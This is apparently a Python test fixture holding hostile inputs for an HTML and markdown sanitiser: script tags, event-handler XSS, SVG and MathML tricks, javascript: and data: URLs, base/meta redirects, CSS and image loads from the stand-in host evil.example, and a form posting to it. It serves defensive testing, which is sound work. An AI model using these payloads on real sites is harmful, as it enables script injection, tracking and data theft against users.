"""Hostile input for the sanitiser and the renderer: markup that would run script, load
something, navigate, submit or restyle the page if it got through."""

from __future__ import annotations

# URLs that must never become a link target or an image source.
BAD_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:application/javascript,alert(1)",
    "//evil.example/x",
    "///evil.example/x",
    "\\\\evil.example\\share\\x",
    "/\\evil.example",
    "file:///etc/passwd",
    "file://evil.example/share",
    "http://evil.example/x",
    "ftp://evil.example/x",
    "../../etc/passwd",
    "/local/path",
    "relative/page.html",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/x",
    "intent://evil.example#Intent;end",
    "ms-settings:privacy",
]

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=\"https://evil.example/x.js\"></script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script type=\"module\">import 'https://evil.example/m.js'</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<style></style><script>alert(1)</script>",
    "\u0000<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "<!--><script>alert(1)</script>-->",
]

HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" alt=\"x\">",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<a onclick=\"alert(1)\" href=\"https://a.example\">x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onpointerenter=alert(1)>x</p>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus '",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror&#x3D;alert(1)>",
    "<body/onload=alert(1)>",
    "<audio src=x onerror=alert(1)>",
]

SVG_AND_MATH = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
    "<svg><use href=\"//evil.example/x.svg#a\"/></svg>",
    "<svg><foreignObject><iframe src=\"https://evil.example\"></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href to=javascript:alert(1)/></svg>",
    "<svg><image href=\"https://evil.example/x.png\"/></svg>",
    "<math><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mi></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
]

NAVIGATION = [
    "<base href=\"https://evil.example/\">",
    "<base href=//evil.example>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
    "<meta charset=\"utf-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<link rel=\"prefetch\" href=\"//evil.example\">",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"\\\\evil.example\\share\">x</a>",
    "<a ping=\"https://evil.example/p\" href=\"https://a.example\">x</a>",
    "<area href=\"javascript:alert(1)\">",
]

CSS = [
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
    "<p style=\"behavior:url(x.htc)\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<span style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</span>",
    "@import 'https://evil.example/x.css';",
    "</style><img src=x onerror=alert(1)>",
    "url(javascript:alert(1))",
]

EMBEDS = [
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<applet code=\"x.class\"></applet>",
    "<frameset><frame src=\"https://evil.example\"></frameset>",
    "<portal src=\"https://evil.example\"></portal>",
    "<img srcset=\"https://evil.example/x.png 1x\">",
    "<picture><source srcset=\"//evil.example/x.png\"><img src=x></picture>",
    "<video poster=\"https://evil.example/p.png\"></video>",
    "<table background=\"https://evil.example/x.png\"><tr><td>x</td></tr></table>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
]

FORMS = [
    "<form action=\"https://evil.example\"><input name=x><button>Go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input type=\"image\" src=\"https://evil.example/x.png\">",
    "<form><textarea name=x></textarea><select><option>x</option></select></form>",
    "<isindex action=\"javascript:alert(1)\">",
    "<keygen autofocus onfocus=alert(1)>",
]

MARKDOWN = [
    "[reference]: javascript:alert(1)\n\n[click][reference]",
    "<javascript:alert(1)>",
    "<//evil.example>",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "![x](x.png \"caption\" onerror=alert(1))",
    "[x](https://a.example \"title\" onclick=alert(1))",
    "[x](<javascript:alert(1)>)",
    "``<script>alert(1)</script>``",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "- [ ] <input onfocus=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "> <iframe src=https://evil.example>",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "**<a href=javascript:alert(1)>x</a>**",
    "www.evil.example/x",
    "http://evil.example/autolinked",
]


def _url_forms(url: str) -> list[str]:
    return [f"[link]({url})", f"![image]({url})", f"<a href=\"{url}\">link</a>",
            f"<img src=\"{url}\">"]


PAYLOADS = (SCRIPTS + HANDLERS + SVG_AND_MATH + NAVIGATION + CSS + EMBEDS + FORMS + MARKDOWN
            + [form for url in BAD_URLS for form in _url_forms(url)] + BAD_URLS)
